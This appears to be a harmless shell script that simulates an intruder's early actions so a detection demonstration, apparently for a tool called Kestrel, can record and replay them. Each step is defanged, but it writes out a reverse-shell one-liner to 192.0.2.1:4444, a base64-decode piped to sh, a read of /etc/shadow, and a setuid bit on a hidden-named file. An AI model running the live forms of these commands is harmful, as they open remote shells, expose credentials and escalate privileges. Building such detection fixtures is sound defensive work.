#!/bin/sh
# What an intruder's first minutes look like, harmless: every act is for show, in a folder of its own that is removed.
# Recorded by `cargo xtask record` into the log that the demonstration replays.
set -u
folder=$(mktemp -d /tmp/kestrel-demo.XXXXXX) || exit 1
trap 'rm -rf "$folder"' EXIT

# Looking around.
id >/dev/null
uname -a >/dev/null
cat /etc/hosts >/dev/null

# Text becomes commands.
echo dHJ1ZQ== | base64 -d | sh

# A program is dropped, runs under a hidden name, and fails.
cp /bin/false "$folder/.updater"
"$folder/.updater"

# It would like to be root; the bit is taken back at once.
chmod u+s "$folder/.updater"
chmod u-s "$folder/.updater"

# It reads what it should not (and writes it nowhere).
head -c 0 /etc/shadow 2>/dev/null

# A reverse shell that is only talked about.
sh -c 'true "sh -i >& /dev/tcp/192.0.2.1/4444 0>&1"'

# Something stays behind for three seconds.
nohup sleep 3 >/dev/null 2>&1 &

# Everyday work between all this, which no rule wants.
for number in 1 2 3 4 5; do
    ls / >/dev/null
    date >/dev/null
    sleep 0.1
done
wait
